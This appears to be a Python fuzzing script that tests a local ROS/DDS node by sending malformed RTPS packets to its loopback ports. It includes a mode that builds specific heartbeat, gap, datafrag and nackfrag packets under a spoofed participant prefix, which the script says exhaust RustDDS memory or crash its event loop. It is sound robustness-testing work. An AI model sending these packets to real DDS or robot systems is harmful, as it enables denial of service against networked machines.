#!/usr/bin/env python3
"""Sends malformed RTPS to the DDS ports of the first participant on this host, from a seed, and reports what it sent. Root only.

It first captures real packets on loopback. Then, for --seconds, it sends packets of three kinds to the ports of participant 0:
real packets that were changed in some places (mutated), packets with deliberately wrong content (crafted), and random bytes (noise).

    --as stranger    real packets get the GUID prefix of one of sixteen unknown participants instead of their sender's
    --as peer        real packets keep their GUID prefix, so they are sent in a peer's name
    --lethal KIND    sends one packet that exhausts the memory of the node's DDS library, as an unknown participant that the node
                     has discovered: heartbeat, gap or datafrag (node/docs/decisions/0010-what-rustdds-does-not-survive.md); or
                     nackfrag, which ends its event loop by a panic

Packets of the storm that are lethal in this way are counted but not sent: they are tested one by one.
Prints a line of JSON when the storm begins, and one at the end: the number of packets of each kind.
"""

import argparse
import json
import os
import random
import socket
import struct
import sys
import time

SPDP_WRITER, SPDP_READER = bytes.fromhex("000100c2"), bytes.fromhex("000100c7")
SEDP_WRITER, SEDP_READER = bytes.fromhex("000003c2"), bytes.fromhex("000003c7")
BUILTIN = [SPDP_READER, SEDP_READER, bytes.fromhex("000004c7"), bytes.fromhex("000200c7"), bytes(4)]
INFO_DST, HEARTBEAT, GAP, DATA, DATA_FRAG, NACK_FRAG = 0x0E, 0x07, 0x08, 0x15, 0x16, 0x12
# More sequence numbers in one range, or bytes in one sample, than any peer of these tests has.
RANGE, SAMPLE = 1 << 16, 1 << 20
ODD = [0, 1, 2, 0x7F, 0xFF, 0x7FFF, 0xFFFF, 0x7FFFFFFF, 0x80000000, 0xFFFFFFFF]


def fail(message):
    print(f"bad_rtps.py: {message}", file=sys.stderr, flush=True)
    sys.exit(1)


def captured(seconds):
    """Yields the RTPS packets on loopback for `seconds`, from one socket: to close and open it takes tens of milliseconds, in which
    a packet is missed."""
    try:
        tap = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0800))
    except PermissionError:
        fail("cannot capture packets; run this as root")
    with tap:
        tap.bind(("lo", 0))
        tap.settimeout(0.2)
        until = time.monotonic() + seconds
        while time.monotonic() < until:
            try:
                packet = tap.recv(65_536)
            except TimeoutError:
                continue
            payload = packet[(packet[0] & 15) * 4 + 8 :]
            if packet[9] == 17 and payload[:4] == b"RTPS":
                yield payload


def listen(seconds, least):
    """Captures real RTPS packets on loopback, each once."""
    packets = list(dict.fromkeys(captured(seconds)))
    if len(packets) < least:
        fail(f"{len(packets)} RTPS packets heard in {seconds} s, fewer than {least}; is a node running in this namespace?")
    return packets


def submessages(packet):
    """(kind, little endian, body) of each submessage, as a receiver reads them."""
    at = 20
    while at + 4 <= len(packet):
        kind, flags = packet[at], packet[at + 1]
        little = flags & 1
        (length,) = struct.unpack_from("<H" if little else ">H", packet, at + 2)
        end = len(packet) if length == 0 else min(len(packet), at + 4 + length)
        yield kind, little, packet[at + 4 : end]
        at = end if end > at + 4 or length else len(packet)


def number(body, at, little):
    high, low = struct.unpack_from("<iI" if little else ">iI", body, at)
    return (high << 32) + low


def is_lethal(packet):
    """True for packets that are known to exhaust the memory, whatever else they contain."""
    for kind, little, body in submessages(packet):
        if kind == HEARTBEAT and len(body) >= 24:
            first, last = number(body, 8, little), number(body, 16, little)
            if last - first > RANGE or abs(last) > 1 << 40 or abs(first) > 1 << 40:
                return True
        if kind == GAP and len(body) >= 24:
            first, base = number(body, 8, little), number(body, 16, little)
            if base - first > RANGE or abs(base) > 1 << 40 or abs(first) > 1 << 40:
                return True
        if kind == DATA_FRAG and len(body) >= 32:
            (size,) = struct.unpack_from("<I" if little else ">I", body, 28)
            if size > SAMPLE:
                return True
    return False


def header(prefix):
    return b"RTPS" + bytes([2, 4, 1, 18]) + prefix


def submessage(kind, flags, body, length=None):
    return struct.pack("<BBH", kind, flags, len(body) if length is None else length) + body


def sequence(n):
    return struct.pack("<iI", n >> 32, n & 0xFFFFFFFF)


def heartbeat(first, last, count=1, reader=SEDP_READER, writer=SEDP_WRITER):
    return submessage(HEARTBEAT, 1, reader + writer + sequence(first) + sequence(last) + struct.pack("<i", count))


def gap(start, base, bits, words, reader=SEDP_READER, writer=SEDP_WRITER):
    return submessage(GAP, 1, reader + writer + sequence(start) + sequence(base) + struct.pack("<I", bits) + words)


def data_frag(n, first, count, size, sample, payload, reader=SPDP_READER, writer=SPDP_WRITER, flags=1):
    body = struct.pack("<HH", 0, 28) + reader + writer + sequence(n)
    return submessage(DATA_FRAG, flags, body + struct.pack("<IHHI", first, count, size, sample) + payload)


def nack_frag(n, base, bits, words, count=1, reader=SEDP_READER, writer=SEDP_WRITER):
    body = reader + writer + sequence(n) + struct.pack("<II", base, bits) + words + struct.pack("<i", count)
    return submessage(NACK_FRAG, 1, body)


class Liar:
    """Makes packets from a seed."""

    def __init__(self, seed, real, as_peer):
        self.random = random.Random(seed)
        self.real, self.as_peer = real, as_peer
        self.strangers = [bytes([0xBA, 0xD0 + k]) + self.random.randbytes(10) for k in range(16)]
        self.makers = [
            self.lengths,
            self.sets,
            self.fragments,
            self.parameters,
            self.replies,
            self.offsets,
            self.ranges,
            self.kinds,
        ]

    def prefix(self):
        return self.random.choice(self.strangers)

    def mutated(self):
        packet = self.random.choice(self.real)
        if not self.as_peer:
            packet = packet.replace(packet[8:20], self.prefix())
        packet = bytearray(packet)
        for _ in range(self.random.randint(1, 4)):
            self.change(packet)
        return bytes(packet)

    def change(self, packet):
        pick = self.random
        at = pick.randrange(len(packet)) if packet else 0
        match pick.randrange(7):
            case 0 if packet:
                packet[at] ^= 1 << pick.randrange(8)
            case 1 if packet:
                packet[at] = pick.randrange(256)
            case 2:
                packet[at & ~3 : (at & ~3) + 4] = struct.pack("<I", pick.choice(ODD))
            case 3:
                packet[at & ~1 : (at & ~1) + 2] = struct.pack("<H", pick.choice(ODD) & 0xFFFF)
            case 4:
                del packet[max(at, 20) :]
            case 5:
                del packet[at : at + pick.randint(1, 16)]
            case _:
                packet[at:at] = pick.randbytes(pick.randint(1, 64))

    def crafted(self):
        return header(self.prefix()) + self.random.choice(self.makers)()

    def lengths(self):
        """A length that differs from the body's length."""
        body = self.random.randbytes(self.random.choice([0, 3, 4, 20, 200]))
        kind = self.random.choice([1, 6, 7, 8, 9, 12, 13, 14, 15, 18, 19, 21, 22, 0x30, 0x33])
        return submessage(kind, self.random.randrange(256), body, self.random.choice(ODD) & 0xFFFF)

    def sets(self):
        """Number sets with wrong numbers of bits."""
        bits = self.random.choice([0, 1, 31, 255, 256, 257, 0xFFFF, 0xFFFFFFFF])
        words = self.random.randbytes(4 * self.random.choice([0, 1, 8, 9]))
        start = self.random.choice([-1, 0, 1, 5])
        ack = self.random.choice(BUILTIN) + SEDP_WRITER + sequence(start) + struct.pack("<I", bits) + words
        return gap(start, start + 3, bits, words) + submessage(6, 1, ack) + submessage(18, 1, ack)

    def fragments(self):
        """Fragments with wrong numbers and sizes."""
        first, count = self.random.choice([0, 1, 2, 0xFFFFFFFF]), self.random.choice([0, 1, 2, 0xFFFF])
        size, sample = self.random.choice([0, 1, 1024, 0xFFFF]), self.random.choice([0, 1, 1025, SAMPLE, 0xFFFFFFFF])
        payload = self.random.randbytes(self.random.choice([0, 1, 1024]))
        n, flags = self.random.choice([-1, 0, 1, 2]), self.random.choice([1, 3, 5, 9])
        return data_frag(n, first, count, size, sample, payload, self.random.choice(BUILTIN), flags=flags)

    def parameters(self):
        """Discovery data with parameter lists without an end, wrong lengths, and strings longer than the packet."""
        body = b""
        for _ in range(self.random.randint(1, 40)):
            pid = self.random.choice([0x05, 0x07, 0x15, 0x16, 0x31, 0x32, 0x50, 0x52, 0x58, 0x5A, 0x62, 0x70, 0x7FFF])
            length = self.random.choice([0, 1, 4, 16, 24, 0xFFFC, 0xFFFF])
            value = struct.pack("<I", self.random.choice(ODD)) + self.random.randbytes(24)
            body += struct.pack("<HH", pid, length) + value[: min(length, 28)]
        writer = self.random.choice([SPDP_WRITER, SEDP_WRITER, bytes.fromhex("000004c2")])
        reader = bytes([*writer[:3], 0xC7])
        n = self.random.randint(1, 1000)
        data = struct.pack("<HH", 0, 16) + reader + writer + sequence(n) + b"\x00\x03\x00\x00" + body
        return submessage(DATA, self.random.choice([5, 7, 9, 13]), data)

    def replies(self):
        """Lists of addresses with a wrong length."""
        many = struct.pack("<I", self.random.choice(ODD)) + self.random.randbytes(24)
        return submessage(15, self.random.choice([1, 3]), many) + heartbeat(1, 3, self.random.randint(1, 99))

    def offsets(self):
        """Data that starts beyond its end."""
        offset = self.random.choice([0, 4, 15, 16, 17, 0x7FFF, 0xFFFF])
        body = struct.pack("<HH", 0, offset) + self.random.choice(BUILTIN) + SPDP_WRITER + sequence(1)
        return submessage(DATA, 7, body + self.random.randbytes(self.random.choice([0, 8, 64])))

    def ranges(self):
        """Heartbeats and gaps with reversed ranges."""
        first, last = self.random.choice([(5, 1), (0, 0), (-4, -9), (100, 99), (1, 900)])
        return heartbeat(first, last, self.random.choice([0, 1, -1, 0x7FFFFFFF])) + gap(last + 2, first, 0, b"")

    def kinds(self):
        """Many submessages of random, also undefined kinds."""
        many = (self.random.randrange(256) for _ in range(self.random.randint(1, 200)))
        return b"".join(submessage(kind, self.random.randrange(2), self.random.randbytes(4)) for kind in many)

    def noise(self):
        begin = self.random.choice([b"", b"RTPS", b"RTPX", b"RTPS" + bytes([9, 9, 0xFF, 0xFF]), header(self.prefix())])
        return begin + self.random.randbytes(self.random.choice([0, 1, 7, 20, 500, 9000, 65_000]))


def storm(args, ports, to):
    liar = Liar(args.seed, listen(1.5, 20), args.play == "peer")
    sent = {"mutated": 0, "crafted": 0, "noise": 0, "lethal": 0}
    print(json.dumps({"event": "storm"}), flush=True)
    start, k = time.monotonic(), 0
    while (now := time.monotonic() - start) < args.seconds:
        if k > now * args.rate:
            time.sleep(0.001)
            continue
        k += 1
        kind = ("mutated", "mutated", "crafted", "crafted", "noise")[k % 5]
        packet = getattr(liar, kind)()
        if is_lethal(packet):
            sent["lethal"] += 1
            continue
        to.sendto(packet[:65_000], ("127.0.0.1", ports[k // 5 % len(ports)]))
        sent[kind] += 1
    return {**sent, "heard": len(liar.real)}


def lethal(args, ports, to):
    """Lets the node discover an unknown participant, which then sends the packet."""
    stranger = bytes.fromhex("bad0bad0bad0bad0bad0bad0")
    # The node announces itself every 10 s.
    announced = next((p for p in captured(35.0) if SPDP_WRITER in p and b"\x15" in p and len(p) > 100), None)
    if announced is None:
        fail("no participant announced itself within 35 s")
    to.sendto(announced.replace(announced[8:20], stranger), ("127.0.0.1", ports[0]))
    time.sleep(1.0)
    body = {
        "heartbeat": heartbeat(1, 1 << 40),
        "gap": gap(10, 1 << 40, 0, b""),
        "datafrag": data_frag(1, 1, 1, 1024, 0xFFFFFFFF, bytes(1024)),
        "nackfrag": nack_frag(1, 0, 32, bytes([0xFF] * 4)),
    }[args.lethal]
    packet = header(stranger) + body
    to.sendto(packet, ("127.0.0.1", ports[0]))
    return {"packet": packet.hex()}


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--as", dest="play", choices=["stranger", "peer"], default="stranger")
    parser.add_argument("--lethal", choices=["heartbeat", "gap", "datafrag", "nackfrag"])
    parser.add_argument("--seconds", type=float, default=5.0)
    parser.add_argument("--rate", type=float, default=1000.0, help="packets per second")
    parser.add_argument("--seed", type=int, default=1)
    args = parser.parse_args()
    base = 7400 + 250 * int(os.environ.get("ROS_DOMAIN_ID", "0"))
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as to:
        ports = [base + 10, base + 11]
        print(json.dumps(lethal(args, ports, to) if args.lethal else storm(args, ports, to)), flush=True)


if __name__ == "__main__":
    main()
